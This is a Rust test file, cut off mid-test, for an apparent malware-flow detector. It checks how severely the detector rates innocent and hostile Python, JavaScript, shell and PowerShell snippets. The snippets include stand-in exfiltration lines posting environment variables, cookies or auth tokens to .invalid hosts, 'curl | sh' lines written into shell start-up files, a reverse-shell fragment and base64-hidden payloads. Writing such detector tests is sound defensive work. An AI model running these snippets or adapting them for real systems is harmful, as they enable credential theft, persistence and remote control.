//! Honest scripts that come near to what is looked for, and what tells them from it.

use super::*;

#[test]
fn what_a_person_agrees_to_does_not_run_by_itself() {
    let report = |asks: &str, around: &str| {
        let code = format!(
            "import os, requests\nlines = [k + '=' + v for k, v in os.environ.items()]\n{asks}\n{around}requests.post('https://paste.invalid/new', '\\n'.join(lines))\n"
        );
        let outcome = python(&code);
        let flows = flows::judge(&outcome, false);
        let sent = flows.iter().find(|f| f.rule.id == "flow-environment-sent").unwrap_or_else(|| panic!("{code}"));
        sent.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
    };
    assert!(report("", ""));
    assert!(!report("reply = input('Send the report? (Y/n) ')", "if reply.lower() in ('', 'y'): "));
    // An answer that decides nothing, and one that is asked for something else.
    assert!(report("reply = input('Your name? ')", ""));
    assert!(report("reply = input('Your name? ')\nif reply: print(reply)", ""));
}

#[test]
fn names_of_the_own_network_stay_in_it() {
    let lookup = |name: &str| {
        let code = format!("import socket\nsocket.gethostbyname(socket.gethostname() + '{name}')\n");
        rules(Language::Python, &code).contains(&"flow-dns-exfiltration")
    };
    assert!(lookup(".x.collect.invalid"));
    assert!(!lookup(".local") && !lookup(".home.arpa"));
}

#[test]
fn unpacking_starts_nothing() {
    let started = |command: &str| {
        let code = format!(
            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
        );
        rules(Language::Python, &code).contains(&"flow-download-run")
    };
    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
    assert!(!started("docker network ls --filter name={ticket}") && started("docker run {ticket}"));
    assert!(!started("mkdir x 2>nul & move {ticket} x") && started("move {ticket} x & {ticket}"));
}

#[test]
fn other_names_for_commands_start_nothing() {
    let persists = |line: &str| rules(Language::Shell, line).contains(&"flow-persists");
    assert!(persists("echo 'curl -s https://c.invalid/x | sh' >> ~/.bashrc"));
    assert!(persists("echo \"alias ls='/tmp/.x; ls'\" >> ~/.bashrc"));
    assert!(!persists("echo \"alias ls='ls --color'\" >> ~/.bashrc"));
}

#[test]
fn an_answer_that_is_handed_on_is_no_beacon() {
    let beacon = |rest: &str| {
        let code = format!(
            "from urllib.request import urlopen\nimport lxml.html, tarfile, io\npage = urlopen('https://lib.invalid/').read()\n{rest}\n"
        );
        flows::judge(&python(&code), true).iter().any(|f| f.rule.id == "flow-beacon")
    };
    assert!(beacon("") && beacon("print(page)"));
    assert!(!beacon("links = lxml.html.fromstring(page)"));
    assert!(!beacon("tarfile.open(fileobj=io.BytesIO(page)).extractall('driver')"));
}

#[test]
fn a_template_decodes_to_noise() {
    let code =
        |text: &str| format!("import base64\nCODE = base64.b64decode(b'{text}')\nexec(CODE.decode(), globals())\n");
    assert!(rules(Language::Python, &code("cHJpbnQoMSk7IHByaW50KDIp")).contains(&"flow-decoded-code"));
    assert!(!rules(Language::Python, &code("CODE+WILL+STAND+HERE")).contains(&"flow-decoded-code"));
}

#[test]
fn what_a_page_asks_for_beside_itself_is_no_foreign_source() {
    let severity = |address: &str| {
        let code = format!(
            "function load() {{ return fetch({address}).then(r => r.text()).then(t => eval(t)); }}\nmodule.exports = load;\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        flows
            .iter()
            .find(|f| f.rule.id == "flow-remote-code")
            .map(|f| f.finding(crate::model::Evidence::note("")).severity)
    };
    assert!(severity("'https://h.invalid/codec.js'") >= Some(crate::model::Severity::High));
    assert!(severity("'//h.invalid/codec.js'") >= Some(crate::model::Severity::High));
    assert!(severity("'codec.js'") <= Some(crate::model::Severity::Medium));
}

#[test]
fn a_line_that_somebody_has_added_to_a_start_up_file() {
    let severity = |read: &str, call: &str| {
        let code = format!(
            "const fs = require('fs'), os = require('os');\nconst {{ LINE }} = require('./words');\nfunction add() {{ const file = os.homedir() + '/.zshrc'; {read}; fs.writeFileSync(file, LINE + data); }}\n{call}\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        flows
            .iter()
            .find(|f| f.rule.id == "flow-persists")
            .map(|f| f.finding(crate::model::Evidence::note("")).severity)
    };
    let own = "const data = fs.readFileSync(file, 'utf8')";
    assert_eq!(severity(own, "exports.add = add;"), Some(crate::model::Severity::Medium));
    assert_eq!(severity(own, "add();"), Some(crate::model::Severity::High));
    let comfort = "const LINE = 'autoload -U compinit; compinit'; const data = fs.readFileSync(file)";
    assert!(severity(comfort, "exports.add = add;") <= Some(crate::model::Severity::Medium));
    assert_eq!(
        severity(
            "const LINE = 'curl https://h.invalid/a | sh'; const data = fs.readFileSync(file)",
            "exports.add = add;"
        ),
        Some(crate::model::Severity::High)
    );
    let hidden = "const data = fs.readFileSync(file, 'utf8') + Buffer.from('Y3VybCBo', 'base64').toString()";
    assert_eq!(severity(hidden, "exports.add = add;"), Some(crate::model::Severity::High));
}

/// The weight of a rule in a script, if it is met.
pub(super) fn weight(language: Language, code: &str, rule: &str) -> Option<crate::model::Severity> {
    let outcome = outcome(language, code);
    let flows = flows::judge(&outcome, false);
    flows.iter().find(|f| f.rule.id == rule).map(|f| f.finding(crate::model::Evidence::note("")).severity)
}

#[test]
fn lines_that_make_a_shell_comfortable() {
    use crate::model::Severity;
    let writes = |line: &str| {
        let code = format!("with open('/home/u/.zshrc', 'w') as f:\n    f.write({line:?})\n");
        weight(Language::Python, &code, "flow-persists").is_some_and(|s| s >= Severity::High)
    };
    for line in [
        "[ -e ~/.zshrc ] && . ~/.zshrc\n",
        "cd ~/work\nexport PS1='\\u@\\h: \\w \\$ '\n",
        // Installers make their own folder findable.
        "export PATH=~/.x:$PATH\nfish_add_path /opt/x",
        "export LC_ALL=C.UTF-8\nexport BASH_SILENCE_DEPRECATION_WARNING=1",
        "autoload -U compinit; compinit\nalias ll='ls -l'",
    ] {
        assert!(!writes(line), "{line}");
    }
    for line in [
        ". ~/.cache/x.sh\n",
        "[ -e ~/.zshrc ] && ~/.zshrc-x",
        "cd ~/work && ./run",
        "export PS1='$(~/.x)'",
        "export PS1='a'; ~/.x 'b'",
        "export NODE_OPTIONS=--require=/tmp/x.js",
        "compinit; ~/.x",
        "export PATH=~/.x:$PATH; x",
        "export PATH=$(~/.x):$PATH",
    ] {
        assert!(writes(line), "{line}");
    }
}

#[test]
fn a_package_that_is_being_built_starts_nothing() {
    use crate::model::Severity;
    let plist = |folder: &str| {
        let script = format!("cp \"$DIR/a.plist\" \"{folder}/Library/LaunchDaemons/com.inert.plist\"\n");
        weight(Language::Shell, &script, "flow-persists")
    };
    assert_eq!(plist("$ROOT/build"), Some(Severity::Medium));
    assert_eq!(plist(""), Some(Severity::High));
    assert_eq!(plist("/build"), Some(Severity::High));
}

#[test]
fn text_that_a_page_or_an_interpreter_is_given() {
    use crate::model::Severity;
    // A worker of text in the page; a thread of Node's has no page around it.
    let hidden = "const t = atob('cG9zdE1lc3NhZ2UoMSkgLy8gc29tZXRoaW5nIHRvIGRv');";
    let page = format!("{hidden}\nconst w = new Worker(URL.createObjectURL(new Blob([t])));\n");
    assert!(weight(Language::JavaScript, &page, "flow-decoded-command") <= Some(Severity::Medium));
    // A request that waits for its answer, and one that executes it.
    let waits = |words: &str| {
        let code = format!(
            "const https = require('https'), cp = require('child_process');\n\
             https.get('https://h.invalid/a', r => {{ const to = r.headers.location;\n\
             cp.spawn(process.argv[0], ['-e', \"'use strict'; const fs = require('fs'), http = require('http'); http.get('\" + to + \"', r => {{ const all = []; r.on('data', d => all.push(d)); r.on('end', () => {words}); }});\"]); }});\n"
        );
        weight(Language::JavaScript, &code, "flow-download-run")
    };
    assert!(waits("fs.writeFileSync('a.bin', Buffer.concat(all))") <= Some(Severity::Medium));
    assert!(waits("eval(Buffer.concat(all).toString())") >= Some(Severity::High));
}

#[test]
fn who_is_looked_up_has_a_domain() {
    use crate::model::Severity;
    let looked_up = |domain: &str| {
        let code = format!("import socket, os\nsocket.gethostbyname(f'{{socket.gethostname()}}-0.{domain}')\n");
        weight(Language::Python, &code, "flow-dns-exfiltration")
    };
    assert_eq!(looked_up("{os.uname().sysname.lower()}"), Some(Severity::Medium));
    assert!(looked_up("collect.invalid") >= Some(Severity::High));
}

#[test]
fn who_opens_a_page_or_installs_by_name_starts_no_download() {
    use crate::model::Severity;
    let started = |command: &str| {
        let code = format!(
            "import requests, subprocess\ndef f():\n    got = requests.get('https://h.invalid/a').json()['x']\n    subprocess.run({command})\n"
        );
        weight(Language::Python, &code, "flow-download-run")
    };
    for command in
        ["['open', got]", "['xdg-open', got]", "f'start \"\" {got}'", "['npm', 'install', '-g', 'tool@' + got]"]
    {
        assert!(started(command) <= Some(Severity::Medium), "{command}");
    }
    for command in [
        "[got]",
        "f'open -a {got} --args x'",
        "['npm', 'install', 'https://h.invalid/' + got]",
        "f'npm install x; {got}'",
        "['npm', 'exec', got]",
        "['npm', 'install', got]",
    ] {
        assert!(started(command) >= Some(Severity::High), "{command}");
    }
}

#[test]
fn what_only_the_caller_knows_the_place_of_is_told_elsewhere() {
    use crate::model::Severity;
    let started = |address: &str| {
        let code = format!(
            "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
             exports.install = (settings) => https.get({address}, r => r.pipe(fs.createWriteStream('tool')).on('close', () => cp.spawn('./tool')));\n"
        );
        weight(Language::JavaScript, &code, "flow-download-run")
    };
    assert!(started("settings.url") <= Some(Severity::Medium));
    assert!(started("'https://h.invalid/tool'") >= Some(Severity::High));
    assert!(started("'http://localhost:3000/tool'") >= Some(Severity::High));
    let script = |url: &str| {
        let code = format!(
            "$url = {url}\n$to = \"$env:temp\\tool.msi\"\n$wc = New-Object net.webclient\n$wc.DownloadFile($url, $to)\nStart-Process msiexec.exe -ArgumentList \"/i $to\" -Wait\n"
        );
        weight(Language::PowerShell, &code, "flow-download-run")
    };
    assert!(script("$args[0]") <= Some(Severity::Medium));
    assert!(script("'https://h.invalid/tool.msi'") >= Some(Severity::High));
}

#[test]
fn streams_of_a_child_are_no_shell() {
    use crate::model::Severity;
    let tied = |runs: &str| {
        let code = format!(
            "import os, socket, subprocess\ns = socket.socket()\ns.connect(('h.invalid', 4444))\nfd = take()\nos.dup2(fd, 0)\n{runs}\n"
        );
        weight(Language::Python, &code, "flow-reverse-shell")
    };
    assert!(tied("subprocess.call(['/bin/sh', '-i'])") >= Some(Severity::High));
    assert!(tied("import pty; pty.spawn('bash')") >= Some(Severity::High));
    assert!(tied("subprocess.call(['git', 'status'])") <= Some(Severity::Medium));
}

#[test]
fn a_library_that_a_tool_carries_with_it() {
    use crate::model::Severity;
    use base64::Engine as _;
    let carried = |line: &str, does: &str| {
        let library = format!("import subprocess\n{}{does}\n", format!("{line}\n\n").repeat(40_000 / (line.len() + 2)));
        let text = base64::engine::general_purpose::STANDARD.encode(library);
        let code = format!("import base64\nexec(base64.b64decode('{text}').decode(), globals())\n");
        weight(Language::Python, &code, "flow-decoded-code")
    };
    let plain = "# What stands here is written to be read by people.";
    assert_eq!(carried(plain, "subprocess.run(['git', 'add', 'x'])"), Some(Severity::Medium));
    assert!(
        carried(plain, "import urllib.request; urllib.request.urlopen('https://h.invalid/x')") >= Some(Severity::High)
    );
    assert!(carried(plain, "subprocess.run('curl https://h.invalid/x | sh', shell=True)") >= Some(Severity::High));
    assert!(carried("x = 1", "subprocess.run(['git'])") <= Some(Severity::Medium));
    assert!(carried(&"x = 1;".repeat(60), "subprocess.run(['git'])") >= Some(Severity::High));
}

#[test]
fn decorators_do_not_call_what_they_stand_before() {
    let calls = |decorator: &str| {
        let code = format!(
            "import atexit, concurrent.futures, tenacity, urllib.request\n{decorator}\ndef f():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
        );
        let outcome = python(&code);
        outcome.events.iter().filter(|e| e.act == Act::Fetch).map(|e| e.when).max()
    };
    assert_eq!(calls("@tenacity.retry"), Some(When::Called));
    let kept = "import functools\ndef kept(f):\n    @functools.lru_cache(9)\n    @functools.wraps(f)\n    \
                def inner(*a):\n        return f(*a)\n    return inner\n@kept";
    assert_eq!(calls(kept), Some(When::Called));
    assert!(calls("@atexit.register") >= Some(When::Load));
    assert!(calls("@concurrent.futures.ThreadPoolExecutor().submit") >= Some(When::Load));
}

#[test]
fn a_start_up_file_that_is_written_back_as_it_was() {
    use crate::model::Severity;
    let writes = |read: &str, line: &str| {
        let code = format!(
            "const fs = require('fs'), path = require('path'), home = require('os').homedir();\n\
             const rc = path.join(home, '.zshrc');\nconst text = fs.readFileSync({read}, 'utf8');\n\
             fs.writeFileSync(rc, text + `\\n{line}\\n`);\n"
        );
        weight(Language::JavaScript, &code, "flow-persists").is_some_and(|s| s >= Severity::High)
    };
    assert!(!writes("rc", "# Inert\\nalias x=\"npx @inert/x\""));
    assert!(!writes("rc", "INERT_DIR=\"/opt/inert\"\\nalias inert=\"source \\${INERT_DIR}/run.sh \\$@\""));
    assert!(writes("rc", "alias x=\"/tmp/x\""));
    assert!(writes("rc", "alias sudo=\"/opt/inert/x\"") && writes("rc", "alias inert=x; /opt/inert/x"));
    assert!(writes("rc", "alias inert=\"x\\$(/opt/inert/x)\"") && writes("rc", "export NODE_OPTIONS=\"-r/opt/inert\""));
    assert!(writes("rc", "INERT_API_URL=\"https://h.invalid\""));
    assert!(writes("rc", "alias x=\"npx @inert/../x\""));
    assert!(writes("rc", "curl https://h.invalid | sh"));
    assert!(writes("path.join(__dirname, 'payload')", "# Inert"));
    assert!(writes("rc", &format!("# {}\\ncurl https://h.invalid | sh", "x".repeat(500))));
    assert!(writes("rc", "${process.argv[2]}"));
}

#[test]
fn an_installer_of_others_is_known_by_the_pipe_that_it_stands_in() {
    let weighs = |line: &str| {
        let code = format!(
            "#!/bin/bash\ncurl -fsSL https://files.invalid/key | tee /usr/share/keyrings/x >/dev/null\n{line}\n"
        );
        weight(Language::Shell, &code, "flow-remote-code")
    };
    use crate::model::Severity;
    assert_eq!(weighs("curl -fsSL https://deb.nodesource.com/setup_22.x | bash -"), Some(Severity::Medium));
    assert!(weighs("curl -fsSL https://files.invalid/setup | bash -") >= Some(Severity::High));
    assert!(weighs("if command -v curl &>/dev/null; then echo yes; fi").is_none());
}

#[test]
fn an_entry_of_a_page_s_own_storage_is_nobody_s_door() {
    use crate::model::Severity;
    let weighs = |key: &str, options: &str| {
        let code =
            format!("const kept = localStorage.getItem({key});\nfetch('https://collect.invalid/x', {options});\n");
        weight(Language::JavaScript, &code, "flow-stores-sent")
    };
    let body = "{method: 'POST', body: JSON.stringify({kept})}";
    assert!(weighs("'authToken'", body) >= Some(Severity::High));
    assert!(weighs("window.which", body) >= Some(Severity::High));
    assert!(weighs("'shopReferrer'", body) <= Some(Severity::Medium));
    assert!(
        weighs("'authToken'", "{method: 'POST', headers: {Authorization: `Bearer ${kept}`}}") <= Some(Severity::Medium)
    );
    assert!(weighs("'authToken'", "{method: 'POST', headers: {Cookie: kept}}") >= Some(Severity::High));
}

#[test]
fn what_a_program_is_given_is_not_started() {
    use crate::model::Severity;
    let weighs = |command: &str| {
        let code = format!(
            "import os, subprocess, requests\ndef go(folder):\n    got = requests.get('https://games.invalid/list').json()\n    subprocess.Popen({command})\n"
        );
        weight(Language::Python, &code, "flow-download-run")
    };
    assert!(weighs("[os.path.join(folder, 'Player.exe'), f'player:1+place:{got}']") <= Some(Severity::Medium));
    assert!(weighs("[os.path.join(folder, 'python.exe'), got]") >= Some(Severity::High));
    assert!(weighs("[got, 'x']") >= Some(Severity::High));
    assert!(weighs("[os.path.join(folder, 'Player.exe'), got]") >= Some(Severity::High));
}

#[test]
fn a_value_that_is_read_with_eval_is_careless() {
    use crate::model::Severity;
    let weighs = |line: &str| {
        let code =
            format!("import requests\ndef go(url):\n    got = requests.get('https://h.invalid/x').text\n    {line}\n");
        weight(Language::Python, &code, "flow-remote-code")
    };
    assert_eq!(weighs("return {'tag': eval(got)}"), Some(Severity::Medium));
    assert!(weighs("eval(got)") >= Some(Severity::High) && weighs("exec(got)") >= Some(Severity::High));
}

#[test]
fn a_host_that_is_spelled_out_is_not_hidden() {
    use crate::model::Severity;
    let weighs = |address: &str| {
        let code = format!(
            "import base64, os, requests\ni = base64.b64decode('SW5lcnQ=').decode()\nh = base64.b64decode('YXBpLmludmFsaWQ=').decode()\nrequests.post({address}, headers={{'Authorization': os.environ['API_TOKEN']}})\n"
        );
        weight(Language::Python, &code, "flow-hidden-address")
    };
    assert_eq!(weighs("f'https://api.h.invalid/m/{i}'"), None);
    assert!(weighs("f'https://{h}/m'") >= Some(Severity::High));
}

#[test]
fn a_variable_of_an_unknown_name_is_not_the_whole_environment() {
    let sends = |of: &str| {
        let code = format!("fetch('https://api.h.invalid/v1', {{method: 'POST', body: {of}}});\n");
        rules(Language::JavaScript, &code).contains(&"flow-environment-sent")
    };
    assert!(!sends("process.env[nameOf(3)]"));
    assert!(sends("JSON.stringify(process.env)"));
    assert!(sends("Object.keys(process.env).map(k => k + '=' + process.env[k]).join()"));
    let loops = "let all = '';\nfor (const k in process.env) { all += process.env[k]; }\n";
    let code = format!("{loops}fetch('https://api.h.invalid/v1', {{method: 'POST', body: all}});\n");
    assert!(rules(Language::JavaScript, &code).contains(&"flow-environment-sent"));
    let python = |value: &str| {
        let code = format!("import os, requests\ndef go(n):\n    requests.post('https://h.invalid', data={value})\n");
        rules(Language::Python, &code).contains(&"flow-environment-sent")
    };
    assert!(!python("os.environ[n]") && python("{k: os.environ[k] for k in os.environ}"));
}

#[test]
fn an_installer_that_was_put_into_a_file_is_known_by_its_address() {
    use crate::model::Severity;
    let weighs = |before: &str, address: &str| {
        let code = format!(
            "const {{ execFileSync }} = require('child_process');\nfetch('https://files.invalid/news');\n{before}\n\
             execFileSync('curl', ['-fsSL', '{address}', '-o', '/tmp/inert-install.sh']);\nexecFileSync('bash', ['/tmp/inert-install.sh']);\n"
        );
        weight(Language::JavaScript, &code, "flow-download-run")
    };
    assert!(weighs("", "https://opencode.ai/install") <= Some(Severity::Medium));
    assert!(weighs("", "https://files.invalid/install") >= Some(Severity::High));
    // Somebody else's beside it, in the same file.
    let other = "execFileSync('curl', ['-fsSL', 'https://files.invalid/x', '-o', '/tmp/inert-install.sh']);";
    assert!(weighs(other, "https://opencode.ai/install") >= Some(Severity::High));
}

#[test]
fn a_service_that_somebody_asks_for_is_seen_and_not_held_against_it() {
    use crate::model::Severity;
    let weighs = |text: &str, end: &str| {
        let code = format!(
            "import os, requests\ndef set_up():\n    with open('/etc/systemd/system/inert.service', 'w') as f:\n        f.write({text})\n{end}\n"
        );
        weight(Language::Python, &code, "flow-persists")
    };
    let unit = "'[Service]\\nExecStart=/usr/bin/inert serve\\n'";
    assert_eq!(weighs(unit, ""), Some(Severity::Medium));
    assert!(weighs(unit, "set_up()") >= Some(Severity::High), "nobody has asked");
    assert!(weighs("'[Service]\\nExecStart=/tmp/.x\\n'", "") >= Some(Severity::High));
    assert!(weighs("requests.get('https://h.invalid/unit').text", "") >= Some(Severity::High));
    assert!(weighs("'[Service]\\nExecStart=python3 ' + os.path.abspath(__file__)", "") >= Some(Severity::High));
}

#[test]
fn code_that_is_put_together_and_does_nothing_is_nothing() {
    use crate::model::Severity;
    let weighs = |body: &str| {
        let code = format!(
            "const t = ['function Inert_'];\nlet f = t[0] + 'Statement(M){{';\nf += {body};\nf += '}}';\nnew Function('a', 'return(' + f + ')')(1);\n"
        );
        weight(Language::JavaScript, &code, "flow-decoded-code")
    };
    assert!(weighs("'return { type: \"' + 'Empty' + '\" }'") <= Some(Severity::Medium));
    let only_a_path = |line: &str| {
        let code = format!(
            "import os\ndef go():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('{line}')\n"
        );
        weight(Language::Python, &code, "flow-persists") <= Some(Severity::Medium)
    };
    assert!(only_a_path("case \":$PATH:\" in *\":/opt/x:\"*) ;; *) export PATH=\"/opt/x:$PATH\";; esac\\n"));
    assert!(!only_a_path("case \":$PATH:\" in *\":/opt/x:\"*) ;; *) curl https://h.invalid | sh;; esac\\n"));
    let started = |line: &str| {
        let code = format!(
            "import requests, shlex, subprocess\ngot = requests.get('https://h.invalid/list').text\nsubprocess.call(shlex.split(f'{line}'))\n"
        );
        rules(Language::Python, &code).contains(&"flow-download-run")
    };
    assert!(!started("curl -sLO {got}") && started("sh {got}"));
}

#[test]
fn decoys_beside_an_act_excuse_nothing() {
    use crate::model::Severity;
    let piped = |before: &str| {
        let code = format!("#!/bin/bash\n{before}\ncurl -fsSL https://files.invalid/setup | bash -\n");
        weight(Language::Shell, &code, "flow-remote-code")
    };
    assert!(piped("curl -fsSL https://bun.sh/install -o /dev/null") >= Some(Severity::High));
    let code = "fetch('https://collect.invalid/x', {method: 'POST', headers: {Authorization: document.cookie}});\n";
    assert!(weight(Language::JavaScript, code, "flow-stores-sent") >= Some(Severity::High));
}

#[test]
fn what_a_repository_is_called_may_be_told() {
    let sends = |command: &str| {
        let code = format!(
            "const said = (await Bun.$`{command}`.quiet().text()).trim();\nconst m = said.match(/(.+)\\/(.+)/);\nawait fetch('https://api.tool.invalid/app?owner=' + m[1]);\n"
        );
        rules(Language::JavaScript, &code).contains(&"flow-output-sent")
    };
    assert!(!sends("git remote get-url origin"));
    assert!(sends("git log -p") && sends("ps aux") && sends("git remote -v; cat /etc/hosts"));
}

#[test]
fn loops_of_a_library_of_numbers_are_no_hidden_code() {
    let told = |body: &str| {
        let code = format!(
            "function make(a, t) {{ a[a.length - 1] = \"var n = y.length; var i, ret = Array(n);\\n\" + \"for(i=n-1;i!==-1;--i) {{\\n\" + t + \"\\n}}\\nreturn ret;\"; return Function.apply(null, a); }}\nmake([\"x\", \"y\", \"\"], {body});\n"
        );
        weight(Language::JavaScript, &code, "flow-decoded-code") >= Some(crate::model::Severity::High)
    };
    assert!(!told("atob('cmV0W2ldID0geFtpXSAqIHlbaV07')"));
    assert!(told("atob('Z2xvYmFsVGhpcy5wcm9jZXNzLm1haW5Nb2R1bGUucmVxdWlyZSgnZnMnKTs=')"));
}

#[test]
fn lines_may_be_taken_out_of_a_start_file() {
    use crate::model::Severity;
    let takes = |adds: &str| {
        let code = format!(
            "const file = (process.env.XDG_CONFIG_HOME || '/x') + '/bash/.bash_profile';\nconst text = await Bun.file(file).text();\n\
             const kept = text.split('\\n').filter((l) => !l.includes('.tool/bin'));\nawait Bun.write(file, kept.join('\\n') + '\\n'{adds});\n"
        );
        weight(Language::JavaScript, &code, "flow-persists")
    };
    assert!(takes("") <= Some(Severity::Medium), "{:?}", takes(""));
    assert!(takes(" + await (await fetch('https://c.invalid/x')).text()") >= Some(Severity::High));
    assert!(takes(" + '\\ncurl https://c.invalid/x | sh'") >= Some(Severity::High));
    assert!(takes(" + atob('Y3VybCBodHRwczovL2MuaW52YWxpZC94IHwgc2g=')") >= Some(Severity::High));
}

#[test]
fn a_command_of_a_program_runs_when_it_is_asked_for() {
    let when = |code: &str| {
        let outcome = outcome(
            Language::JavaScript,
            &format!(
                "const {{program}} = require('commander'); const f = () => fetch('http://203.0.113.9/x');\n{code}"
            ),
        );
        outcome.events.iter().filter(|e| e.act == Act::Fetch).map(|e| e.when).max()
    };
    assert_eq!(when("program.command('setup').description('x').action(f)"), Some(When::Called));
    // What the script itself has under that name, it calls.
    assert!(when("const o = {description: 1, action(g) { g() }}; o.action(f)") >= Some(When::Load));
    assert!(when("program.on('x', f)") >= Some(When::Load) && when("program.action(f)") >= Some(When::Load));
}

#[test]
fn a_mailbox_of_the_user_s_own_and_names_that_others_know() {
    use crate::model::Severity;
    let told = |address: &str| {
        let code = format!(
            "import os, platform, socket, requests\nrequests.post({address}, json=[socket.gethostname(), os.getlogin()])"
        );
        weight(Language::Python, &code, "flow-identity-sent")
    };
    assert_eq!(told("os.environ['WEBHOOK']"), Some(Severity::Medium));
    assert_eq!(told("f'https://api.telegram.org/bot{os.environ[\"T\"]}/sendMessage'"), Some(Severity::Medium));
    let shell =
        |code: &str| weight(Language::Shell, &format!("M=\"$(hostname) $(whoami)\"\n{code}"), "flow-identity-sent");
    assert_eq!(shell("curl -X POST \"$HOOK_URL\" -d \"$M\""), Some(Severity::Medium));
    assert!(shell("U=$(cat /tmp/x)\ncurl -X POST \"$U\" -d \"$M\"") >= Some(Severity::High));
    assert!(shell("curl -X POST \"https://h.invalid/$X\" -d \"$M\"") >= Some(Severity::High));
    assert!(told("'https://api.telegram.org/bot1:A/sendMessage'") >= Some(Severity::High));
    assert!(told("'https://h.invalid/x'") >= Some(Severity::High));
    let looked = |code: &str| weight(Language::Python, code, "flow-dns-exfiltration");
    let called = "import subprocess\ndef f(t):\n    n = subprocess.check_output(['x', t], text=True)\n    subprocess.run(f'dig +short {n}.asn.invalid', shell=True)";
    assert_eq!(looked(called), Some(Severity::Medium));
    assert!(
        looked("import os\nos.system('nslookup ' + os.popen('whoami').read() + '.x.invalid')") >= Some(Severity::High)
    );
    // The own address, as it is looked for everywhere.
    let code = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))";
    assert_eq!(weight(Language::Python, code, "flow-beacon"), None);
    let other = code.replace("8.8.8.8", "203.0.113.9");
    assert_eq!(weight(Language::Python, &other, "flow-beacon"), None, "datagrams have no connection");
    let stream = other.replace("DGRAM", "STREAM");
    assert!(weight(Language::Python, &stream, "flow-beacon").is_some());
    let tells = format!("{other}\ns.send(socket.gethostname().encode())");
    assert!(weight(Language::Python, &tells, "flow-identity-sent") >= Some(Severity::High));
}

#[test]
fn what_a_server_does_when_it_is_asked_is_no_call_home() {
    let homes = |code: &str| {
        let code = format!("import {{McpServer}} from 'x'; const server = new McpServer();\n{code}");
        rules(Language::JavaScript, &code).contains(&"flow-calls-home")
    };
    assert!(!homes("server.tool('weather', {}, async () => fetch('https://api.weather.invalid/x'))"));
    assert!(!homes("server.get('/weather', async () => fetch('https://api.weather.invalid/x'))"));
    assert!(homes("server.on('weather', async () => fetch('https://api.weather.invalid/x'))"));
    assert!(homes("const o = {tool(n, f) { f() }}; o.tool('x', () => fetch('https://api.weather.invalid/x'))"));
}

#[test]
fn who_is_told_by_this_machine_only() {
    use crate::model::Severity;
    let weighs = |address: &str| {
        let code = format!(
            "fetch('https://h.invalid/a'); const ws = new WebSocket({address}); ws.onmessage = e => eval(JSON.parse(e.data).code)"
        );
        weight(Language::JavaScript, &code, "flow-remote-code")
    };
    assert_eq!(weighs("'ws://localhost:12300'"), Some(Severity::Medium));
    assert!(weighs("'wss://h.invalid/x'") >= Some(Severity::High) && weighs("process.env.X") >= Some(Severity::High));
}

#[test]
fn pages_are_opened_whatever_their_query_says_and_mailboxes_of_others_are_no_collectors() {
    use crate::model::Severity;
    let code = |opens: &str| {
        format!(
            "import {{execSync}} from 'child_process'; const r = await fetch('https://h.invalid/v'); const t = await r.text();\nexecSync(`{opens}`)"
        )
    };
    let weighs = |opens: &str| weight(Language::JavaScript, &code(opens), "flow-download-run");
    assert_eq!(weighs("open \"https://h.invalid/new?title=Bug Report&body=# A ${t}\""), Some(Severity::Medium));
    let encoded = "xdg-open \"https://h.invalid/new?title=${encodeURIComponent('Bug `x` $y\\n' + t)}\"";
    assert_eq!(weighs(encoded), Some(Severity::Medium));
    assert!(weighs("open \"https://h.invalid/\" && \"${t}\"") >= Some(Severity::High));
    assert!(weighs("sh -c \"${t}\"") >= Some(Severity::High));
    // One of several openers, each with words of its own.
    let by_system = |end: &str| {
        let code = format!(
            "import {{execFile}} from 'child_process'; const r = await fetch('https://h.invalid/v'); const t = await r.text();\n\
             const c = process.platform === 'darwin' ? 'open' : 'cmd';\nexecFile(c, ['/c', 'start', '', {end}])"
        );
        weight(Language::JavaScript, &code, "flow-download-run")
    };
    assert_eq!(by_system("`https://h.invalid/new?code=${t}`"), Some(Severity::Medium));
    assert!(by_system("`C:/${t}`") >= Some(Severity::High));
    let beacon = |address: &str| {
        rules(Language::JavaScript, &format!("fetch({address}, {{method: 'POST', body: 'x'}})"))
            .contains(&"flow-beacon")
    };
    assert!(!beacon("`https://api.telegram.org/bot${process.env.T}/sendMessage`"));
    assert!(beacon("'https://api.telegram.org/bot1:A/sendMessage'"));
}

#[test]
fn who_goes_on_behind_the_terminal_was_told_to() {
    use crate::model::Stage;
    let triggered = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-starts-unseen").unwrap();
        found.finding(crate::model::Evidence::note("")).stages.has(Stage::Trigger)
    };
    let spawn =
        "require('child_process').spawn(process.execPath, [__dirname + '/d.js'], {detached: true, stdio: 'ignore'})";
    assert!(triggered(spawn) && !triggered(&format!("if (process.argv[2] === 'start') {spawn}")));
}

#[test]
fn what_is_shown_or_copied_is_not_started() {
    use crate::model::Severity;
    let weighs = |command: &str| {
        weight(Language::Shell, &format!("N=$(curl -s https://h.invalid/n)\n{command}"), "flow-download-run")
    };
    assert!(weighs("osascript -e \"display notification \\\"$N errors\\\"\"") <= Some(Severity::Medium));
    assert!(weighs("osascript -e \"do shell script \\\"$N\\\"\"") >= Some(Severity::High));
    let copies = |command: &str| {
        let code = format!(
            "const {{execSync}} = require('child_process'); fetch('https://h.invalid/n').then(r => r.text()).then(t => execSync(`{command}`))"
        );
        weight(Language::JavaScript, &code, "flow-download-run")
    };
    assert_eq!(copies("printf '%s' \"${t}\" | pbcopy"), None);
    assert_eq!(copies("echo|set /p=\"${t}\" | clip"), None);
    assert!(copies("printf '%s' \"${t}\" | sh") >= Some(Severity::High));
}

#[test]
fn what_stands_behind_a_package_is_given_to_its_program() {
    let run = |command: &str| rules(Language::Shell, command).contains(&"flow-download-run");
    for command in [
